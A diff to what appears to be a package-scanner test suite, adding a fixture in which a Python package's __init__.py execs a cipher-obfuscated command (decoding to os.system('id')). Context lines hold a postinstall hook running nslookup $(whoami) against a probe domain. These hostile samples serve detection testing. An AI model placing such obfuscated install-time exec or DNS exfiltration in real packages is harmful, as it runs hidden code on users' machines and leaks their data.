@@ -564,6 +564,22 @@ subprocess.Popen([sys.executable, '-c', 'from synthetic_pkg.edt import bounding;
     verdict: 'hold',
   },
   {
+    rule: 'decodes-and-executes',
+    name: 'exec of a substitution cipher decoded by a comprehension over a long literal',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import string
+a_l = string.ascii_letters
+r_l = a_l[::-1]
+exec("".join([r_l[a_l.index(c)] if c in r_l else c for c in "RNKLIG LH;LH.HBHGVN('RW');KIRMG('WLMV, HLNV GVCG GL KZW')"]))
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 4,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
     rule: 'shell-exfiltration',
     name: 'postinstall runs nslookup $(whoami).probe.example.com',
     scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
